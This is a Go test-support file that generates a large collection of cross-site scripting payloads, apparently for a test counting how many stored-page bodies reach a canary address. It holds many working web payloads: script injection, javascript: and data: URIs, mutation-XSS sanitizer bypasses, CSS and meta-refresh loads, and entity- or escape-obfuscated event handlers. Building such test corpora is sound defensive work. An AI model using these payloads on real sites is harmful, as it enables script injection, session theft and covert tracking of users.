package web

import (
	"html"
	"strings"
)

// attacks are bodies of stored pages; ✗ stands for the canary's address of that
// page. Nearly each reaches it in a browser that runs or loads what it is told:
// the test that uses them counts those that do.
func attacks() []string {
	var out []string
	out = append(out, scripts...)
	out = append(out, loads...)
	out = append(out, frames...)
	out = append(out, mutations...)
	for i, h := range handlers {
		for j, disguise := range disguises {
			if (i+j)%3 != 0 || j == 0 { // all as they are, a third of the rest in each disguise
				out = append(out, disguise(h))
			}
		}
	}
	return out
}

// beacon is what code of an attack does.
const beacon = `new Image().src='✗'`

var scripts = []string{
	`<script>` + beacon + `</script>`,
	`<script src="✗"></script>`,
	`<script src=✗ async></script>`,
	`<script src="✗" defer></script>`,
	`<script type=module>` + beacon + `</script>`,
	`<script type=module src="✗"></script>`,
	`<script type="text/ecmascript">` + beacon + `</script>`,
	`<script language=javascript1.2>` + beacon + `</script>`,
	`<SCRIPT>` + beacon + `</SCRIPT>`,
	`<script/x>` + beacon + `</script>`,
	"<script\n>" + beacon + "</script\n>",
	`<script>fetch("✗")</script>`,
	`<script>fetch("✗",{mode:"no-cors"})</script>`,
	`<script>navigator.sendBeacon("✗")</script>`,
	`<script>var r=new XMLHttpRequest;r.open("GET","✗");r.send()</script>`,
	`<script>import("✗")</script>`,
	`<script>new EventSource("✗")</script>`,
	`<script>document.write("<img src=✗>")</script>`,
	`<script>document.body.innerHTML="<img src=✗>"</script>`,
	`<script>eval("` + beacon + `")</script>`,
	`<script>new Function("` + beacon + `")()</script>`,
	`<script>setTimeout("` + beacon + `",0)</script>`,
	`<script>document.cookie="a=b";new Image().src="✗"+document.cookie</script>`,
	`<script>new Audio("✗").load()</script>`,
	`<script>var l=document.createElement("link");l.rel="stylesheet";l.href="✗";document.head.append(l)</script>`,
	`<script>var s=document.createElement("script");s.src="✗";document.body.append(s)</script>`,
	`<script>var f=document.createElement("iframe");f.src="✗";document.body.append(f)</script>`,
	`<script>location="✗"</script>`,
	`<script>location.replace("✗")</script>`,
	`<script>top.location="✗"</script>`,
	`<script>open("✗","_self")</script>`,
	`<p><script>//--><!--` + "\n" + beacon + `</script>`,
	`<!--><script>` + beacon + `</script>-->`,
	`<!----!><script>` + beacon + `</script>-->`,
	`<svg><script>` + beacon + `</script></svg>`,
	`<svg><script href="✗"></script></svg>`,
	`<svg><script xlink:href="✗"></script></svg>`,
	`<svg><script>new&#32;Image().src=&#39;✗&#39;</script></svg>`,
	`<svg><g><script type="text/javascript">` + beacon + `</script></g></svg>`,
	`<table><script>` + beacon + `</script></table>`,
	`<select><script>` + beacon + `</script></select>`,
	`<body><frameset><script>` + beacon + `</script></frameset>`,
	`</title></head></body></html><script>` + beacon + `</script>`,
	`<a href="javascript:` + beacon + `" id=a>a</a><script>a.click()</script>`,
	`<form action="✗" id=f></form><script>f.submit()</script>`,
	`<form id=f><button formaction="✗" id=b>a</button></form><script>b.click()</script>`,
	`<form id=f action="javascript:` + beacon + `"></form><script>f.submit()</script>`,
	`<div onclick="` + beacon + `" id=d>a</div><script>d.click()</script>`,
	`<map name=m><area href="javascript:` + beacon + `" id=a></map><script>a.click()</script>`,
}

// loads fetch something from outside without any script.
var loads = []string{
	`<img src="✗">`, `<img src=✗>`, `<img SRC='✗'>`, `<image src="✗">`, `<img srcset="✗ 1x">`, `<img srcset="✗ 100w" sizes=100px>`, `<img src="` + "\n\t" + `✗">`,
	`<picture><source srcset="✗"><img></picture>`, `<picture><source srcset="✗ 2x, ✗ 1x"><img></picture>`,
	`<input type=image src="✗">`, `<video src="✗" preload=auto></video>`, `<video poster="✗"></video>`, `<audio src="✗" autoplay></audio>`,
	`<video autoplay muted><source src="✗"></video>`, `<audio autoplay><source src="✗"></audio>`,
	`<object data="✗"></object>`, `<embed src="✗">`, `<object type="text/html" data="✗"></object>`, `<embed type="image/png" src="✗">`,
	`<link rel=stylesheet href="✗">`, `<link rel="stylesheet alternate" title=a href="✗">`, `<p><link rel=stylesheet href="✗">`, `<link rel=preload as=image href="✗">`,
	`<link rel=preload as=script href="✗">`, `<link rel=preload as=style href="✗">`, `<link rel=modulepreload href="✗">`, `<link rel=prefetch href="✗">`,
	`<style>@import "✗";</style>`, `<style>@import url(✗);</style>`, `<style>@\69mport "✗";</style>`, `<style>/**/@import/**/"✗";</style>`,
	`<style>body{background:url("✗")}</style>`, `<style>body{background:url(✗)}</style>`, `<style>body{background:u\72l("✗")}</style>`,
	`<style>body{background:image-set("✗" 1x)}</style>`, `<style>body{background:-webkit-image-set(url(✗) 1x)}</style>`,
	`<style>body::before{content:url(✗)}</style>`, `<style>li{list-style-image:url(✗)}</style><ul><li>a</ul>`, `<style>p{border-image:url(✗) 30;border-style:solid}</style><p>a`,
	`<style>p{mask-image:url(✗)}</style><p>a`, `<style>p{-webkit-mask:url(✗)}</style><p>a`, `<style>p{--x:url(✗);background:var(--x)}</style><p>a`,
	`<style>@media all{body{background:url(✗)}}</style>`, `<style>@layer a{body{background:url(✗)}}</style>`, `<style>@supports (display:grid){body{background:url(✗)}}</style>`,
	`<style>body{&{background:url(✗)}}</style>`, `<svg><style>p{background:url(✗)}</style></svg><p>a`,
	`<p style="background:url('✗')">a`, `<p style="background:u&#114;l(✗)">a`, `<p style="background-image:url(✗)">a`, `<p style="content:url(✗)">a`, `<p style="border-image-source:url(✗);border-style:solid">a`,
	`<style>@font-face{font-family:a;src:url("✗")}p{font-family:a}</style><p>a`, `<style>@font-face{font-family:a;src:local(zz),url(✗)}body{font-family:a}</style>a`,
	`<meta http-equiv=refresh content="0;url=✗">`, `<meta http-equiv=refresh content="0 ✗">`, `<meta http-equiv="refresh" content="0; URL='✗'">`, `<p><meta http-equiv=refresh content="0;✗">`,
	`<base href="✗/"><img src=a>`, `<base href="✗/"><link rel=stylesheet href=a>`,
	`<body background="✗">`, `<table background="✗"><tr><td>a</table>`, `<table><tr><td background="✗">a</table>`, `<table><tr background="✗"><td>a</table>`, `<table><tbody background="✗"><tr><td>a</table>`,
	`<svg><image href="✗"/></svg>`, `<svg><image xlink:href="✗"/></svg>`, `<svg><image href="✗" width=9 height=9 /></svg>`, `<svg><filter id=f><feImage href="✗"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
	`<svg><foreignObject width=9 height=9><img src="✗"></foreignObject></svg>`, `<math><mtext><img src="✗"></mtext></math>`,
	`<noscript><img src="✗"></noscript><img src="✗">`, `<template shadowrootmode=open><img src="✗"></template><div><template shadowrootmode=open><img src="✗"></template></div>`,
	`<marquee><img src="✗"></marquee>`, `<details open><img src="✗"></details>`, `<button><img src="✗"></button>`, `<xmp></xmp><img src="✗" loading=eager>`,
}

// frames bring a page of their own.
var frames = []string{
	`<iframe src="✗"></iframe>`, `<iframe src=✗>`, `<IFRAME SRC="✗"></IFRAME>`, `<iframe srcdoc="<img src=✗>"></iframe>`,
	`<iframe srcdoc="<script>` + beacon + `</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;` + beacon + `&lt;/script&gt;"></iframe>`,
	`<iframe srcdoc="<img src=x onerror=&quot;` + beacon + `&quot;>"></iframe>`, `<iframe src="javascript:` + beacon + `"></iframe>`,
	`<iframe src="java&#9;script:` + beacon + `"></iframe>`, `<iframe src="java` + "\n" + `script:` + beacon + `"></iframe>`, `<iframe src=" &#1;javascript:` + beacon + `"></iframe>`,
	`<iframe src="JaVaScRiPt:` + beacon + `"></iframe>`, `<iframe src="&#106;avascript:` + beacon + `"></iframe>`, `<iframe src="javascript&colon;` + beacon + `"></iframe>`, `<iframe src="javascript:%6eew%20Image().src='✗'"></iframe>`,
	`<iframe src="data:text/html,<img src=✗>"></iframe>`, `<iframe src="data:text/html,<script>` + beacon + `</script>"></iframe>`, `<object data="data:text/html,<img src=✗>"></object>`, `<embed src="data:text/html,<img src=✗>">`,
	`<iframe srcdoc="<iframe srcdoc='<img src=✗>'></iframe>"></iframe>`, `<iframe name="a" src="about:blank" onload="` + beacon + `"></iframe>`,
	`<embed src="javascript:` + beacon + `">`, `<object data="javascript:` + beacon + `"></object>`,
	`<svg><foreignObject><iframe src="✗"></iframe></foreignObject></svg>`, `<noframes></noframes><iframe src="✗"></iframe>`,
}

// mutations are read one way and, written out again, another.
var mutations = []string{
	`<svg></p><style><a id="</style><img src=x onerror=` + beacon + `>">`,
	`<math></p><style><!--</style><img src=x onerror="` + beacon + `">--></style>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="` + beacon + `">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=` + beacon + `&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=` + beacon + `>">`,
	`<textarea></textarea><img src=x onerror="` + beacon + `"></textarea>`,
	`<title><p title="</title><img src=x onerror=` + beacon + `>">`,
	`<xmp><p title="</xmp><img src=x onerror=` + beacon + `>">`,
	`<iframe><p title="</iframe><img src=x onerror=` + beacon + `>">`,
	`<noembed><p title="</noembed><img src=x onerror=` + beacon + `>">`,
	`<style><p title="</style><img src=x onerror=` + beacon + `>">`,
	`<script>x="<!--<script>"</script><img src=x onerror="` + beacon + `">`,
	`<svg><desc><img src=x onerror="` + beacon + `"></desc></svg>`,
	`<svg><title><img src=x onerror="` + beacon + `"></title></svg>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror="` + beacon + `"></annotation-xml></math>`,
	`<svg><foreignobject><p><img src=x onerror="` + beacon + `">`,
	`<table><td><form><td></form><img src=x onerror="` + beacon + `">`,
	`<![CDATA[><img src=x onerror="` + beacon + `">]]>`,
	`<?xml-stylesheet href="a"?><img src=x onerror="` + beacon + `">`,
	`<a href="x` + "`" + `"><img src=x onerror="` + beacon + `">`,
	`<b <img src=x onerror="` + beacon + `">`,
	`<img src="x` + "`" + `" onerror="` + beacon + `">`,
	`<template><style></template><img src=x onerror="` + beacon + `"></style></template><img src=x onerror="` + beacon + `">`,
	`<p id="</p><img src=x onerror=` + beacon + `>"><img src=x onerror="` + beacon + `">`,
	`<!DOCTYPE x [<!ENTITY y "<img src=x onerror='` + beacon + `'>">]><img src=x onerror="` + beacon + `">`,
	`<svg><set attributeName="href" to="javascript:0" onbegin="` + beacon + `"/></svg>`,
	`<svg><a><animate attributeName=href values="javascript:0" onbegin="` + beacon + `" dur=1s /></a></svg>`,
	`<svg><animateTransform onbegin="` + beacon + `" attributeName=transform dur=1s></svg>`,
	`<svg><animateMotion onbegin="` + beacon + `" dur=1s></svg>`,
	`<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationstart="` + beacon + `">a`,
	`<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend="` + beacon + `">a`,
}

// handlers fire by themselves; ◆ stands for code.
var handlers = []string{
	`<img src=x onerror=◆>`, `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror=◆>`, `<body onload=◆>`, `<body onpageshow=◆>`, `<svg onload=◆>`, `<svg><g onload=◆></g></svg>`,
	`<svg><animate onbegin=◆ attributeName=x dur=1s>`, `<details open ontoggle=◆>a</details>`, `<video src=x onerror=◆></video>`, `<audio src=x onerror=◆></audio>`,
	`<video onloadstart=◆ src=x></video>`, `<audio onloadstart=◆ src=x></audio>`, `<video><source onerror=◆ src=x></video>`, `<audio><source onerror=◆ src=x></audio>`,
	`<iframe onload=◆></iframe>`, `<object data=x onerror=◆></object>`, `<object data="data:text/html,a" onload=◆></object>`, `<embed src="data:text/html,a" onload=◆>`,
	`<link rel=stylesheet href="data:text/css," onload=◆>`, `<link rel=stylesheet href="data:x" onerror=◆>`, `<style onload=◆></style>`, `<script src="data:text/javascript," onload=◆></script>`,
	`<script src="data:x" type=module onerror=◆></script>`, `<input type=image src=x onerror=◆>`, `<svg><image href=x onerror=◆></svg>`, `<image src=x onerror=◆>`,
	`<marquee onstart=◆>a</marquee>`, `<math><mtext><img src=x onerror=◆></mtext></math>`, `<picture><img src=x onerror=◆></picture>`,
	`<body onload=a><img src=x onerror=◆>`, `<p style="content-visibility:auto" oncontentvisibilityautostatechange=◆>a`, `<dialog open><img src=x onerror=◆></dialog>`,
}

// disguises write the same handler in other ways.
var disguises = []func(string) string{
	func(h string) string { return strings.ReplaceAll(h, "◆", `"`+beacon+`"`) },
	func(h string) string {
		return strings.ReplaceAll(h, "◆", `'`+strings.ReplaceAll(beacon, "'", "`")+`'`)
	},
	func(h string) string { // every letter of the code as a character reference
		var b strings.Builder
		for _, r := range `new Image().src='` {
			b.WriteString("&#x" + strings.ToUpper(hexOf(r)) + ";")
		}
		return strings.ReplaceAll(h, "◆", `"`+b.String()+`✗&apos;"`)
	},
	func(h string) string { // in capitals, with slashes and line feeds between attributes
		h = strings.ReplaceAll(h, " on", "/\n ON")
		return strings.ReplaceAll(h, "◆", `"`+html.EscapeString(beacon)+`"`)
	},
	func(h string) string { // the code spells its words in escapes
		return strings.ReplaceAll(h, "◆", `"window['Im\x61ge'].call;new window['\u0049mage']().src='✗'"`)
	},
}

func hexOf(r rune) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[r>>4&15], digits[r&15]})
}
